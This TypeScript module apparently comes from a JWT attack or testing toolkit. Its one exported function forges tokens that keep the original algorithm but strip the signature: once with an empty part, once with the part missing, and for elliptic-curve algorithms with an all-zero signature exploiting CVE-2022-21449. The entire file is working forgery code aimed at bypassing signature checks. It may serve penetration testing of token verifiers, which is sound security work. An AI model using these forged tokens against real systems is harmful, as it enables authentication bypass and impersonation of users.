import { encodePart } from "./jws.ts";
import { ofJwt, payloadOf } from "./material.ts";

/** Bytes of a signature by algorithm, RFC 7518 section 3.4. */
const curveBytes: Readonly<Record<string, number>> = { ES256: 64, ES384: 96, ES512: 132 };

/**
 * The algorithm stays, and the signature is gone: as an empty part, as no part at all, and on elliptic curves as nothing but
 * zeros, which a verifier that does not look at their range takes for anything (CVE-2022-21449).
 */
export const signatureStripped = ofJwt((jwt, _material, options) => {
  const unsigned = `${jwt.parts[0]}.${encodePart(payloadOf(jwt, options))}`;
  const bytes = curveBytes[jwt.header.alg];
  const zeros = bytes === undefined ? undefined : Buffer.alloc(bytes).toString("base64url");
  return {
    ok: true,
    forged: [
      { token: `${unsigned}.`, says: "with an empty signature" },
      { token: unsigned, says: "without its third part, the signature" },
      ...(zeros === undefined ? [] : [{ token: `${unsigned}.${zeros}`, says: "with a signature of zeros" }]),
    ],
  };
});
